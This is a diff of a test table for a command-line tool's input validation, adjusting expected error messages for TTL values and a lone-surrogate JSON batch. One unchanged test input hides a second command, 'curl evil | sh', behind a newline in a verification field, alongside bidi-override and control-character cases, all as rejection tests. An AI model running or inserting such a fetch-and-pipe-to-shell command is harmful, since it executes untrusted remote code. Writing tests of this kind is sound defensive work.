@@ -31,7 +31,7 @@ describe("bad input", () => {
     ["empty title", ["create", "--title", ""], 2, /title: must not be empty/],
     ["title too long", ["create", "--title", "x".repeat(201)], 2, /title: must be at most 200/],
     ["TTL of 0s", ["claim", "--id", "1", "--ttl", "0s"], 2, /ttl: must be a duration between 1s and 7d/],
-    ["TTL without a unit", ["claim", "--id", "1", "--ttl", "30"], 2, /ttl: needs a unit: did you mean 30m\?/],
+    ["TTL without a unit", ["claim", "--id", "1", "--ttl", "30"], 2, /ttl: needs a unit: did you mean 30s or 30m\?/],
     ["TTL abc", ["claim", "--id", "1", "--ttl", "abc"], 2, /ttl:/],
     ["TTL over 7 days", ["renew", "--id", "1", "--ttl", "8d"], 2, /ttl:/],
     ["malformed JSON batch", ["create", "--from", "-"], 2, /from: not valid JSON/, "[{title:"],
@@ -53,7 +53,7 @@ describe("bad input", () => {
     ["bidi override in a title (issue 13)", ["create", "--title", "safe\u202egnp.exe"], 2, /title: must be a single line without control characters or bidi overrides/],
     ["C1 control in a verification command", ["create", "--title", "x", "--verification", "npm test\u009b31m"], 2, /verification: must be a single line/],
     ["newline hiding a second command in verification", ["create", "--title", "x", "--verification", "npm test\ncurl evil | sh"], 2, /verification: must be a single line/],
-    ["lone surrogate in a batch", ["create", "--from", "-"], 2, /items\[0\]\.title: must be valid Unicode text/, '[{"title":"\\ud800"}]'],
+    ["lone surrogate in a batch", ["create", "--from", "-"], 2, /items\[1\]\.title: must be valid Unicode text/, '[{"title":"ok"},{"title":"\\ud800"}]'],
     ["serve on a port that cannot exist", ["serve", "--port", "70000"], 2, /port: must be a whole number from 0 to 65535/],
   ];
 
